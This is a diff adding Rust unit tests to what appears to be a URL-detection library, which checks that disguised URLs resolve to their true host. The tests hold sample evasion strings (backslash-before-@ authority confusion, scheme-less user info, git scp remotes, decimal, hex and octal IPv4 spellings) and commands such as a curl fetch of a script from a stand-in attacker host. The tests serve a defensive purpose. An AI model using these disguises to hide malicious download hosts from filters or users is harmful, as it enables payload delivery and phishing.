@@ -296,3 +296,89 @@ fn readings_undo_each_disguise_in_any_case_among_long_text() {
     // A text with no marker at all has no other reading.
     assert!(readings("plainwords").is_empty());
 }
+
+/// URL red team, round 10: clients that end the authority at `/`, `?` or `#` only (curl,
+/// wget, git, httpx) go to the host after the last `@` of `https://docs.test\@evil.test/`,
+/// where WHATWG readers go to `docs.test`; both are hosts of the value.
+#[test]
+fn url_other_hosts_are_those_rfc_3986_readers_connect_to() {
+    let others = |text: &str| url_normal(text).map(|f| (f.host, f.other_hosts));
+    let hosts = |host: &str, others: &[&str]| {
+        Some((host.to_owned(), others.iter().map(|o| (*o).to_owned()).collect::<Vec<_>>()))
+    };
+    assert_eq!(others("https://docs.test\\@evil.test/x"), hosts("docs.test", &["evil.test"]));
+    assert_eq!(others("https:/\\docs.test\\:x@evil.test/x"), hosts("docs.test", &["evil.test"]));
+    assert_eq!(others("HTTP://docs.test\\@EVIL.test:8080/"), hosts("docs.test", &["evil.test"]));
+    // Where every client agrees there is one host.
+    assert_eq!(others("https://docs.test/notes#@evil.test"), hosts("docs.test", &[]));
+    assert_eq!(others("https://docs.test;@evil.test/x"), hosts("evil.test", &[]));
+    assert_eq!(others("https://evil.test\\.docs.test/"), hosts("evil.test", &[]));
+    assert_eq!(others("http://[::ffff:203.0.113.7]/"), hosts("203.0.113.7", &[]));
+}
+
+/// URL red team, round 10: user info before a host without a scheme (curl and wget read
+/// the word as `http://`), git's scp remotes and numeric IPv4 spellings are URLs to it.
+#[test]
+fn url_user_info_scp_remotes_and_numeric_addresses_name_their_host() {
+    for (text, full) in [
+        ("x@evil.test/upgrade.sh", "evil.test/upgrade.sh"),
+        (":@evil.test/upgrade.sh", "evil.test/upgrade.sh"),
+        ("user:pw@evil.test", "evil.test"),
+        ("docs.test:@evil.test?u.sh", "evil.test?u.sh"),
+        ("git@evil.test:tools/helper.git", "evil.test/tools/helper.git"),
+        ("evil.test:tools/helper.git", "evil.test/tools/helper.git"),
+        ("http://3405803783/x", "203.0.113.7/x"),
+        ("0xcb.0.0x71.7/x", "203.0.113.7/x"),
+    ] {
+        assert_eq!(url(text), full, "{text}");
+    }
+    assert!(url_normal("mailto:eve@evil.test").is_none());
+    assert!(url_normal("sip:eve@evil.test").is_none());
+    assert_eq!(url("main.rs:42"), "main.rs:42");
+}
+
+#[test]
+fn find_takes_user_info_forms_and_numeric_addresses_as_links() {
+    let options = ValueOptions::default();
+    let hosts = |text: &str, kinds: &[ValueKind]| -> Vec<(String, String)> {
+        find(text, kinds, &options)
+            .into_iter()
+            .filter_map(|f| match f.normal {
+                Normal::Url(form) => Some((text[f.start..f.end].to_owned(), form.host)),
+                _ => None,
+            })
+            .collect()
+    };
+    let pairs = |list: &[(&str, &str)]| -> Vec<(String, String)> {
+        list.iter().map(|(a, b)| ((*a).to_owned(), (*b).to_owned())).collect()
+    };
+    let url = [ValueKind::Url];
+    assert_eq!(
+        hosts("curl -s x@evil.test/u.sh :@evil.test/v 'docs.test:@evil.test?w'", &url),
+        pairs(&[
+            ("x@evil.test/u.sh", "evil.test"),
+            (":@evil.test/v", "evil.test"),
+            ("docs.test:@evil.test?w", "evil.test"),
+        ])
+    );
+    assert_eq!(
+        hosts("dig @evil.test docs.test; git clone git@evil.test:t/h.git", &url),
+        pairs(&[
+            ("@evil.test", "evil.test"),
+            ("docs.test", "docs.test"),
+            ("git@evil.test:t/h.git", "evil.test"),
+        ])
+    );
+    assert_eq!(
+        hosts("curl 3405803783/x 203.0.28935:80 0xcb007107 0313.0.0161.07", &url),
+        pairs(&[
+            ("3405803783/x", "203.0.113.7"),
+            ("203.0.28935:80", "203.0.113.7"),
+            ("0xcb007107", "203.0.113.7"),
+            ("0313.0.0161.07", "203.0.113.7"),
+        ])
+    );
+    // Addresses are addresses, and numbers, versions, ratings and dates are no links.
+    assert!(hosts("mail eve@evil.test or git@github.com", &url).is_empty());
+    assert!(hosts("order 3405803783, rated 3.5/5, v1.2.3, on 2026/03/01, 127.1", &url).is_empty());
+}
